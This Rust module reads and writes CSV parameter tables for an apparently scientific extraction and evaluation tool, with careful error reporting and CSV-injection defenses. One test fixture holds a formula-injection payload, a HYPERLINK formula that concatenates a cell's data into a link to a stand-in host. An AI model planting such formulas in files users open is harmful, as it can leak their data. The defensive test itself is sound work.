//! The parameter table on disk: one CSV row per experiment. The extraction run writes it and
//! `paramx eval` reads it (and the gold file) with the same code.
//!
//! Layout of a prediction table: the schema's columns in schema order (= the gold file's order),
//! then [`PIPELINE_COLUMNS`]. Reading is by header name, so a gold file with its own column set
//! reads through the same type.
//!
//! Real files are messy (`\r\r\n` endings, newlines inside quoted cells, blank lines): the csv
//! crate handles those. What it would silently accept but is still broken (an unterminated
//! quote, a row with the wrong number of cells, invalid UTF-8) becomes a [`TableError`] that
//! names the file, line and column.

use crate::schema::Schema;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};

/// Columns the pipeline appends after the schema's columns.
pub const PIPELINE_COLUMNS: [&str; 5] = [
    "source_file",
    "sha256",
    "doi",
    "title_detected",
    "experiment",
];

/// Why a table could not be read or written.
#[derive(Debug, thiserror::Error)]
pub enum TableError {
    /// The I/O error is part of the message (not a `source`), so it is printed once.
    #[error("{file}: {error}")]
    Io {
        file: PathBuf,
        error: std::io::Error,
    },
    #[error("{file}: line {line}, column {column}: {reason}")]
    Malformed {
        file: PathBuf,
        line: u64,
        column: usize,
        reason: String,
    },
    #[error("{file}: the file is empty (no header row)")]
    NoHeader { file: PathBuf },
    #[error("{file}: missing column `{column}`")]
    MissingColumn { file: PathBuf, column: String },
    #[error("{file}: row has {got} cells, the header has {expected}")]
    RowWidth {
        file: PathBuf,
        got: usize,
        expected: usize,
    },
}

/// One data row and the line it starts on (1-based, counting physical lines).
#[derive(Debug, Clone, PartialEq)]
pub struct Row {
    pub line: u64,
    pub cells: Vec<String>,
}

/// A CSV table with a header row.
#[derive(Debug, Clone, PartialEq)]
pub struct Table {
    pub path: PathBuf,
    headers: Vec<String>,
    rows: Vec<Row>,
}

impl Table {
    /// An empty table with these columns (what the extraction run starts from).
    pub fn new(path: impl Into<PathBuf>, headers: Vec<String>) -> Table {
        Table {
            path: path.into(),
            headers,
            rows: Vec::new(),
        }
    }

    /// An empty prediction table: the schema's columns then [`PIPELINE_COLUMNS`].
    pub fn for_predictions(path: impl Into<PathBuf>, schema: &Schema) -> Table {
        Table::new(path, prediction_headers(schema))
    }

    /// Read a CSV file.
    pub fn read(path: impl AsRef<Path>) -> Result<Table, TableError> {
        let path = path.as_ref();
        let mut bytes = Vec::new();
        std::fs::File::open(path)
            .and_then(|mut f| f.read_to_end(&mut bytes))
            .map_err(|error| TableError::Io {
                file: path.to_path_buf(),
                error,
            })?;
        Table::from_bytes(path, &bytes)
    }

    /// Parse CSV bytes; `path` is used in messages only.
    pub fn from_bytes(path: impl Into<PathBuf>, bytes: &[u8]) -> Result<Table, TableError> {
        let file: PathBuf = path.into();
        let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
        check_quotes(&file, bytes)?;
        let mut rdr = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(bytes);
        let lines = LineIndex::new(bytes);
        let mut headers: Option<Vec<String>> = None;
        let mut rows = Vec::new();
        let mut record = csv::ByteRecord::new();
        loop {
            match rdr.read_byte_record(&mut record) {
                Ok(false) => break,
                Ok(true) => {}
                Err(e) => {
                    let line = e
                        .position()
                        .map(|p| lines.record_line(p.byte() as usize))
                        .unwrap_or(0);
                    return Err(TableError::Malformed {
                        file,
                        line,
                        column: 0,
                        reason: e.to_string(),
                    });
                }
            }
            let line = record
                .position()
                .map(|p| lines.record_line(p.byte() as usize))
                .unwrap_or(0);
            let mut cells = Vec::with_capacity(record.len());
            for (i, cell) in record.iter().enumerate() {
                match std::str::from_utf8(cell) {
                    Ok(s) => cells.push(restore_formula(s).to_string()),
                    Err(e) => {
                        return Err(TableError::Malformed {
                            file,
                            line,
                            column: i + 1,
                            reason: format!(
                                "invalid UTF-8 at byte {} of the cell",
                                e.valid_up_to()
                            ),
                        })
                    }
                }
            }
            match &headers {
                None => {
                    let h: Vec<String> = cells.into_iter().map(|h| h.trim().to_string()).collect();
                    // A column named twice would be read from one place and scored from the
                    // other: refuse it, naming the column.
                    for (i, name) in h.iter().enumerate() {
                        if !name.is_empty() && h[..i].contains(name) {
                            return Err(TableError::Malformed {
                                file,
                                line,
                                column: i + 1,
                                reason: format!("the column `{name}` appears twice in the header"),
                            });
                        }
                    }
                    headers = Some(h);
                }
                Some(h) => {
                    if cells.len() != h.len() {
                        // A trailing all-empty remainder (`a,b,,`) is tolerated; anything else is not.
                        if cells.len() > h.len()
                            && cells[h.len()..].iter().all(|c| c.trim().is_empty())
                        {
                            cells.truncate(h.len());
                        } else {
                            return Err(TableError::Malformed {
                                file,
                                line,
                                column: cells.len().min(h.len()) + 1,
                                reason: format!(
                                    "row has {} cells, the header has {}",
                                    cells.len(),
                                    h.len()
                                ),
                            });
                        }
                    }
                    rows.push(Row { line, cells });
                }
            }
        }
        let headers = headers.ok_or_else(|| TableError::NoHeader { file: file.clone() })?;
        Ok(Table {
            path: file,
            headers,
            rows,
        })
    }

    pub fn headers(&self) -> &[String] {
        &self.headers
    }

    pub fn rows(&self) -> &[Row] {
        &self.rows
    }

    /// Index of a column by name.
    pub fn column(&self, name: &str) -> Option<usize> {
        self.headers.iter().position(|h| h == name)
    }

    /// Index of a column that must exist.
    pub fn require(&self, name: &str) -> Result<usize, TableError> {
        self.column(name).ok_or_else(|| TableError::MissingColumn {
            file: self.path.clone(),
            column: name.to_string(),
        })
    }

    /// A cell by column name; `""` when the column does not exist.
    pub fn get<'a>(&self, row: &'a Row, name: &str) -> &'a str {
        self.column(name)
            .and_then(|i| row.cells.get(i))
            .map(String::as_str)
            .unwrap_or("")
    }

    /// Append a row; it must have one cell per column.
    pub fn push(&mut self, cells: Vec<String>) -> Result<(), TableError> {
        if cells.len() != self.headers.len() {
            return Err(TableError::RowWidth {
                file: self.path.clone(),
                got: cells.len(),
                expected: self.headers.len(),
            });
        }
        let line = self.rows.last().map(|r| r.line + 1).unwrap_or(2);
        self.rows.push(Row { line, cells });
        Ok(())
    }

    /// Write as CSV (always quoted where needed, `\n` line endings). A cell that a spreadsheet
    /// would evaluate as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage
    /// return) is written behind a `'` (OWASP's CSV-injection rule); [`Table::from_bytes`]
    /// removes that `'` again, so a table reads back as it was.
    pub fn write_to(&self, w: impl Write) -> Result<(), TableError> {
        let io = |e: csv::Error| TableError::Io {
            file: self.path.clone(),
            error: std::io::Error::other(e.to_string()),
        };
        let mut wtr = csv::WriterBuilder::new().from_writer(w);
        wtr.write_record(&self.headers).map_err(io)?;
        for r in &self.rows {
            let cells: Vec<std::borrow::Cow<'_, str>> =
                r.cells.iter().map(|c| neutralize_formula(c)).collect();
            wtr.write_record(cells.iter().map(|c| c.as_ref()))
                .map_err(io)?;
        }
        wtr.flush().map_err(|error| TableError::Io {
            file: self.path.clone(),
            error,
        })
    }

    /// Write to `self.path`.
    pub fn write(&self) -> Result<(), TableError> {
        let f = std::fs::File::create(&self.path).map_err(|error| TableError::Io {
            file: self.path.clone(),
            error,
        })?;
        self.write_to(std::io::BufWriter::new(f))
    }
}

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` made inert for spreadsheets: behind a `'` when it starts like a formula.
pub fn neutralize_formula(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// The inverse of [`neutralize_formula`].
fn restore_formula(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

/// The prediction table's columns: the schema's columns in order, then [`PIPELINE_COLUMNS`].
pub fn prediction_headers(schema: &Schema) -> Vec<String> {
    let mut h = schema.column_names();
    h.extend(PIPELINE_COLUMNS.iter().map(|s| s.to_string()));
    h
}

/// Find a quoted field that is never closed, which the csv crate would read as "the rest of the
/// file is one cell". Follows the csv crate's quoting: a quote opens only at a field start, `""`
/// inside quotes is an escaped quote.
fn check_quotes(file: &Path, bytes: &[u8]) -> Result<(), TableError> {
    let mut column = 1usize;
    let mut field_start = true;
    // Byte offset and column of the quote that opened the current quoted cell.
    let mut open: Option<(usize, usize)> = None;
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if open.is_some() {
            if b == b'"' {
                if bytes.get(i + 1) == Some(&b'"') {
                    i += 2;
                    continue;
                }
                open = None;
            }
            i += 1;
            continue;
        }
        match b {
            b'"' if field_start => open = Some((i, column)),
            b',' => column += 1,
            b'\n' | b'\r' => column = 1,
            _ => {}
        }
        field_start = matches!(b, b',' | b'\n' | b'\r');
        i += 1;
    }
    match open {
        Some((offset, column)) => Err(TableError::Malformed {
            file: file.to_path_buf(),
            line: line_at(bytes, offset),
            column,
            reason: "quoted cell is never closed".into(),
        }),
        None => Ok(()),
    }
}

/// Line where a record starts: the csv reader's record offset can sit on the line break left
/// over from a `\r\r\n` ending, so skip line-break bytes first.
/// Line numbers of byte offsets, from the separators' offsets found once: a table of a
/// million rows must not rescan the file for every row (that made `eval` quadratic).
struct LineIndex<'b> {
    bytes: &'b [u8],
    breaks: Vec<usize>,
}

impl<'b> LineIndex<'b> {
    fn new(bytes: &'b [u8]) -> Self {
        let sep = if bytes.contains(&b'\n') { b'\n' } else { b'\r' };
        let breaks = bytes
            .iter()
            .enumerate()
            .filter(|(_, &b)| b == sep)
            .map(|(i, _)| i)
            .collect();
        LineIndex { bytes, breaks }
    }

    /// The line a record starting at `offset` is on (its leading line breaks skipped).
    fn record_line(&self, mut offset: usize) -> u64 {
        while offset < self.bytes.len() && matches!(self.bytes[offset], b'\r' | b'\n') {
            offset += 1;
        }
        1 + self.breaks.partition_point(|&b| b < offset) as u64
    }
}

/// 1-based line of a byte offset, counting `\n` as editors do (so a `\r\r\n` ending is one
/// line break); a file with no `\n` at all counts `\r`.
fn line_at(bytes: &[u8], offset: usize) -> u64 {
    let head = &bytes[..offset.min(bytes.len())];
    let sep = if bytes.contains(&b'\n') { b'\n' } else { b'\r' };
    1 + head.iter().filter(|&&b| b == sep).count() as u64
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gold_path() -> Option<PathBuf> {
        let p = crate::schema::source_root().join("../shared/corpus/gold/gold_standard.csv");
        if p.exists() {
            Some(p)
        } else {
            eprintln!("SKIP: {} not found", p.display());
            None
        }
    }

    #[test]
    fn a_column_named_twice_is_refused() {
        let err = Table::from_bytes("g.csv", b"study_id,n_total,n_total\nA2020,1,2\n")
            .expect_err("duplicate column");
        assert!(err.to_string().contains("`n_total` appears twice"), "{err}");
    }

    #[test]
    fn formula_cells_are_neutralized_and_read_back() -> Result<(), TableError> {
        let mut t = Table::new("t.csv", vec!["title".into(), "n".into()]);
        t.push(vec!["=HYPERLINK(\"http://x\"&A2)".into(), "24".into()])?;
        t.push(vec!["@SUM(A1)".into(), "-45".into()])?;
        let mut out = Vec::new();
        t.write_to(&mut out)?;
        let text = String::from_utf8(out).expect("utf8");
        assert!(
            text.contains("\"'=HYPERLINK(\"\"http://x\"\"&A2)\""),
            "{text}"
        );
        assert!(text.contains("'@SUM(A1),'-45"), "{text}");
        let back = Table::from_bytes("t.csv", text.as_bytes())?;
        assert_eq!(back.rows()[0].cells[0], "=HYPERLINK(\"http://x\"&A2)");
        assert_eq!(back.rows()[1].cells, vec!["@SUM(A1)", "-45"]);
        Ok(())
    }

    #[test]
    fn real_gold_parses_with_crcrlf_and_embedded_newline() {
        let Some(p) = gold_path() else { return };
        let t = Table::read(&p).unwrap();
        assert_eq!(t.headers().len(), 32);
        assert_eq!(t.headers()[0], "study_id");
        assert_eq!(t.headers()[31], "notes");
        assert_eq!(t.rows().len(), 30);
        assert_eq!((t.rows()[0].line, t.rows()[1].line), (2, 3));
        let poh = t.rows().iter().find(|r| r.cells[0] == "Poh2019").unwrap();
        assert!(t.get(poh, "title").contains("explicit\r\nand implicit"));
        let empty_ids = t
            .rows()
            .iter()
            .filter(|r| t.get(r, "study_id").trim().is_empty())
            .count();
        assert_eq!(empty_ids, 7);
    }

    #[test]
    fn crcrlf_lines_are_one_row_each() {
        let t = Table::from_bytes("x.csv", b"a,b\r\r\n1,2\r\r\n3,\"x\r\ny\"\r\r\n").unwrap();
        assert_eq!(t.rows().len(), 2);
        assert_eq!(
            t.rows()[1].cells,
            vec!["3".to_string(), "x\r\ny".to_string()]
        );
    }

    #[test]
    fn wrong_width_row_names_line_and_column() {
        let err = Table::from_bytes("bad.csv", b"a,b,c\n1,2,3\n4,5\n")
            .unwrap_err()
            .to_string();
        assert!(err.contains("bad.csv: line 3, column 3"), "{err}");
    }

    #[test]
    fn line_numbers_count_crcrlf_as_one_break() {
        let bad = b"a,b\r\r\n1,2\r\r\n\"x\r\ny\",3\r\r\n4,5,6\r\r\n";
        let err = Table::from_bytes("bad.csv", bad).unwrap_err().to_string();
        assert!(err.contains("bad.csv: line 5, column 3"), "{err}");
        let t = Table::from_bytes("ok.csv", b"a,b\r\r\n1,2\r\r\n\"x\r\ny\",3\r\r\n").unwrap();
        assert_eq!(t.rows()[1].line, 3);
        let err = Table::from_bytes("q.csv", b"a,b\r\r\n1,2\r\r\n3,\"open\r\r\n")
            .unwrap_err()
            .to_string();
        assert!(err.contains("q.csv: line 3, column 2"), "{err}");
    }

    #[test]
    fn unterminated_quote_names_line_and_column() {
        let err = Table::from_bytes("bad.csv", b"a,b\n1,2\n3,\"never closed\n4,5\n")
            .unwrap_err()
            .to_string();
        assert!(
            err.contains("bad.csv: line 3, column 2: quoted cell is never closed"),
            "{err}"
        );
    }

    #[test]
    fn invalid_utf8_names_line_and_column() {
        let err = Table::from_bytes("bad.csv", b"a,b\n1,\xff\n")
            .unwrap_err()
            .to_string();
        assert!(err.contains("line 2, column 2"), "{err}");
    }

    #[test]
    fn empty_file_is_an_error() {
        assert!(matches!(
            Table::from_bytes("e.csv", b""),
            Err(TableError::NoHeader { .. })
        ));
    }

    #[test]
    fn write_then_read_round_trips() {
        let schema = Schema::load(Schema::default_path()).unwrap();
        let mut t = Table::for_predictions("p.csv", &schema);
        let n = t.headers().len();
        assert_eq!(&t.headers()[n - 5..], &PIPELINE_COLUMNS.map(String::from));
        let mut cells = vec![String::new(); n];
        cells[0] = "Poh2019".into();
        cells[1] = "multi\nline, \"quoted\"".into();
        t.push(cells.clone()).unwrap();
        assert!(t.push(vec![String::new()]).is_err());
        let mut buf = Vec::new();
        t.write_to(&mut buf).unwrap();
        let back = Table::from_bytes("p.csv", &buf).unwrap();
        assert_eq!(back.rows()[0].cells, cells);
    }

    proptest::proptest! {
        /// Any bytes give a table or an error, never a panic.
        #[test]
        fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..200)) {
            let _ = Table::from_bytes("fuzz.csv", &bytes);
        }

        /// CSV-ish text built from quotes, separators and line endings.
        #[test]
        fn csv_like_text_never_panics(text in "[a\",\r\n]{0,60}") {
            if let Ok(t) = Table::from_bytes("fuzz.csv", text.as_bytes()) {
                for r in t.rows() {
                    proptest::prop_assert_eq!(r.cells.len(), t.headers().len());
                }
            }
        }
    }
}
